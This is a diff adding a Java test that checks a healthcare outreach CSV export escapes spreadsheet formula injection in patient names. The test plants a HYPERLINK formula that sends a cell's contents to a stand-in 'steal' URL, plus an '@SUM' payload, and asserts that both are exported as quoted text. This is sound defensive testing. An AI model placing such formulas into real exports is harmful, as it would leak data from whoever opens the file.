@@ -156,6 +156,48 @@ class OutreachControllerTests extends MeasuredPages {
     }
 
     @Test
+    void aNameASpreadsheetWouldRunAsAFormulaIsExportedAsText() {
+        String patient = expected(BP, "NOT r.numerator", sites.subList(0, 2), "").iterator().next();
+        String link = "=HYPERLINK(\"http://example.org/steal?x=\"&A1,\"Click\")";
+        List<String> name = renamePatient(patient, link, "@SUM(1+1)");
+        try {
+            List<NamedCsvRecord> rows = csv("analyst", "/outreach.csv?measure=" + BP);
+
+            NamedCsvRecord row = rows.stream().filter(r -> r.getField("patient_id").equals(patient)).findFirst()
+                    .orElseThrow();
+            assertThat(row.getField("family_name")).isEqualTo("'" + link);
+            assertThat(row.getField("given_name")).isEqualTo("'@SUM(1+1)");
+            assertThat(rows).extracting(r -> r.getField("family_name")).noneMatch(n -> n.startsWith("="));
+        } finally {
+            renamePatient(patient, name.get(0), name.get(1));
+        }
+    }
+
+    /** Gives a patient another name in the warehouse and returns the one they had. */
+    private List<String> renamePatient(String patientId, String family, String given) {
+        try (var connection = warehouse.connect()) {
+            List<String> before;
+            try (var query = connection.prepareStatement("SELECT family_name, given_name FROM patient WHERE patient_id = ?")) {
+                query.setString(1, patientId);
+                try (var result = query.executeQuery()) {
+                    result.next();
+                    before = java.util.Arrays.asList(result.getString(1), result.getString(2));
+                }
+            }
+            try (var update = connection.prepareStatement(
+                    "UPDATE patient SET family_name = ?, given_name = ? WHERE patient_id = ?")) {
+                update.setString(1, family);
+                update.setString(2, given);
+                update.setString(3, patientId);
+                assertThat(update.executeUpdate()).isEqualTo(1);
+            }
+            return before;
+        } catch (java.sql.SQLException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    @Test
     void aWrongParameterIsNamedOnA400Page() {
         assertThat(get("analyst", "/outreach?measure=" + BP + "&filter=shoe-size=42")).hasStatus(400)
                 .bodyText().contains("The filter cannot be used").contains("&#39;shoe-size&#39; is not a dimension");
